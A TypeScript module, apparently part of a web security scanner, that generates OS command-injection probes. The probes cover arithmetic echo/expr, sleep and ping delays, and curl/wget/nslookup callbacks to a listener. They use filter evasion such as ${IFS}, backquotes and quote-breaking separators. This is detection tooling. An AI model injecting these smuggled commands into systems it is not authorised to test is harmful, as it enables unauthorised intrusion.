import { callbackSpot, hasCallbackNames } from '../../model/callbacks.ts';
import type { CallbackWay } from '../inputs/callback-look.ts';
import { inputAction, type OpenedInput } from '../inputs/input-request.ts';
import type { Delaying } from './delays.ts';
import { givenValue } from './unparsable.ts';

/** A value with a command behind it that calculates, for one way of standing in a command line. */
export type Calculating = {
  where: string;
  value: string;
  /** What the command prints: nothing that stands in the value. */
  result: string;
  /** The same numbers and words without what makes a command of them. */
  inert: string;
};

const [a, b] = ['‹int›', '‹int2›'];
const product = '‹product:int:int2›';
const printed = `‹nonce›${product}‹nonce2›`;
const echo = `echo ‹nonce›$((${a}*${b}))‹nonce2›`;

/** ".txt" of a name of a file. */
const endingOf = (sample: string): string => /\.\w{1,5}$/.exec(sample)?.[0] ?? '';

/** One value for a command line without quotes and for both kinds of quotes: what follows the first that fits is a comment. */
const inQuotes = (part: string): string => `${part}'${part}"${part}`;

const shells = 'a shell (sh, PowerShell)';

/** What sh takes for a space: filters take out spaces more often than signs of variables. */
const gap = '$' + '{IFS}';

/**
 * The commonest first; those behind are for values in parentheses, and for filters that take out some characters. Programs and
 * built-in commands of every system; they read nothing and change nothing.
 */
export function calculatingIn(sample: string): Calculating[] {
  const inert = `${sample} echo ‹nonce›((${a}*${b}))‹nonce2›`;
  const echoing = (where: string, value: string): Calculating => ({ where, value, result: printed, inert });
  // The words that surround the product need signs that filters take out.
  const bare = (where: string, value: string): Calculating => ({
    where,
    value: sample + value,
    result: product,
    // Where a page calculates by itself, it does so without these signs, too; a shell needs the dollar to calculate.
    inert: sample + value.replace(/[&|;`\n$]/g, ' '),
  });
  const spaceless = echo.replaceAll(' ', gap);
  // Names of files may have to end as the site's own do: behind a comment nothing is read.
  const end = endingOf(sample);
  return [
    echoing(`${shells}, behind a semicolon`, sample + inQuotes(`;${echo};#`) + end),
    echoing(`${shells}, behind a pipe`, sample + inQuotes(`|${echo} #`) + end),
    echoing(`${shells}, behind a line break`, sample + inQuotes(`\n${echo} #`) + end),
    echoing('sh, behind a line break, without spaces', sample + inQuotes(`\n${spaceless}\n#`) + end),
    echoing('sh, behind an ampersand', sample + inQuotes(`&${echo} #`) + end),
    echoing('sh, behind a semicolon, without spaces', sample + inQuotes(`;${spaceless};#`) + end),
    echoing('sh, in a command substitution', `${sample}$(${spaceless})`),
    echoing('sh, between semicolons', `${sample};${echo};`),
    echoing('sh, between semicolons in double quotes', `${sample}";${echo};"`),
    echoing('sh, between semicolons in single quotes', `${sample}';${echo};'`),
    // Fields of searches are short, and take no spaces.
    ...["'", '"'].map((quote) => bare(`sh, in ${quote}, without spaces`, `${quote};echo${gap}$((${a}*${b}));${quote}`)),
    // Where words are refused, a shell calculates without any; in single quotes, these end.
    ...['', "'"].map((quote) => ({
      ...{ where: 'sh, as a number that it calculates', value: `${sample}${quote}$((${a}*${b}))${quote}` },
      ...{ result: product, inert: `${sample}${quote}((${a}*${b}))${quote}` },
    })),
    bare('sh, behind a pipe, without signs', `|expr ${a} \\* ${b}`),
    bare('sh, behind a line break, without signs', `\nexpr\t${a}\t\\*\t${b}\n`),
    bare('sh, in backquotes', `\`expr\t${a}\t\\*\t${b}\``),
    bare('cmd.exe, behind an ampersand', `&set /a ${a}*${b}&rem "&set /a ${a}*${b}&rem `),
  ];
}

/** Names of files that are opened as commands: with a pipe in front by Ruby (Kernel#open), with one behind by Perl (open with two arguments). */
export function openedIn(sample: string): Calculating[] {
  const inert = `${sample} echo ‹nonce›((${a}*${b}))‹nonce2›`;
  const opened = (language: string, value: string): Calculating => ({
    ...{ where: `a name of a file, which ${language} opens as a command`, value, result: printed, inert },
  });
  return [opened('Ruby', `|${echo} #${endingOf(sample)}`), opened('Perl', `;${echo} |`)];
}

const delayingBehind =
  (sample: string) =>
  (where: string, write: (program: string, seconds: string) => string, program = 'sleep'): Delaying => ({
    where,
    value: (seconds) => sample + write(program, seconds),
    broken: (seconds) => sample + write(`${program}q`, seconds),
  });

/** The same for commands whose output nobody sees. The comment at the end differs each time: what is stored may have to be the only one. */
export function delayingIn(sample: string): Delaying[] {
  const delaying = delayingBehind(sample);
  return [
    delaying(`${shells}, behind a semicolon`, (sleep, n) => `${inQuotes(`;${sleep} ${n};#`)}‹nonce›`),
    delaying(`${shells}, behind a pipe`, (sleep, n) => `${inQuotes(`|${sleep} ${n} #`)}‹nonce›`),
    // What lets line breaks pass rarely takes out tabs, and more often signs of variables.
    delaying('sh, behind a line break', byLines),
    delaying('sh, in a command substitution', (sleep, n) => `$(${sleep}${gap}${n})`),
    delaying(
      'cmd.exe, behind an ampersand',
      (ping, n) => {
        // Two pings are a second apart.
        const loop = `&for /l %i in (1,1,${n}) do @${ping} -n 2 127.0.0.1 >nul&rem `;
        return `${loop}"${loop}`;
      },
      'ping',
    ),
  ];
}

/**
 * Values each of which waits in most of these places at once, up to twice as long: one of one line, and one whose lines are commands. What
 * stands behind the first sign of a comment is read by cmd.exe alone, or within double quotes that nothing ends.
 */
export function delayingTogether(sample: string): Delaying[] {
  const delaying = delayingBehind(sample);
  const both = (sleep: string, n: string): string => `;${sleep} ${n}|${sleep} ${n} #`;
  const ping = (n: string): string => `&for /l %i in (1,1,${n}) do @ping -n 2 127.0.0.1 >nul&rem `;
  return [
    delaying(
      'a shell',
      (sleep, n) => `${both(sleep, n)}$(${sleep}${gap}${n})${ping(n)}'${both(sleep, n)}"${both(sleep, n)}${ping(n)}`,
    ),
    delaying('sh, behind a line break', byLines),
    // Where separators are taken out, the rest of these is no command line.
    delaying('sh, in a command substitution', (sleep, n) => `$(${sleep}${gap}${n})`),
  ];
}

const byLines = (sleep: string, n: string): string => `${inQuotes(`\n${sleep}\t${n}\n#`)}‹nonce›`;

/** For values in which quotes are refused: each has as few signs of a shell as will do. */
export function sparselyDelayingIn(sample: string): Delaying[] {
  const delaying = delayingBehind(sample);
  return [
    delaying('sh, between line breaks', (sleep, n) => `\n${sleep}\t${n}\n`),
    delaying('sh, between semicolons', (sleep, n) => `;${sleep}\t${n};`),
    delaying('sh, behind a pipe', (sleep, n) => `|${sleep}\t${n}`),
    delaying('sh, behind another command', (sleep, n) => `&&${sleep}\t${n}`),
    delaying('sh, in backquotes', (sleep, n) => `\`${sleep}\t${n}\``),
  ];
}

/**
 * Commands that fetch an address of the listener, for those that nobody waits for: with what sh, cmd.exe and PowerShell all have,
 * in and out of quotes.
 */
export function callingIn(input: OpenedInput, host: string | undefined): CallbackWay[] {
  if (host === undefined) return [];
  const url = `http://${callbackSpot(host, '‹callback›')}`;
  const resolve = hasCallbackNames(host) ? `||nslookup ‹callback›.${host}` : '';
  const call = `curl -s -m 5 ${url}||wget -q -T 5 -O- ${url}${resolve}`;
  const sample = givenValue(input);
  const inert = inputAction(input, `${sample} curl ${url}`);
  const way = (value: string): CallbackWay => ({ action: inputAction(input, sample + value), inert });
  // Of two signs a filter may leave one.
  return [way(inQuotes(`;${call}&${call} #`))];
}
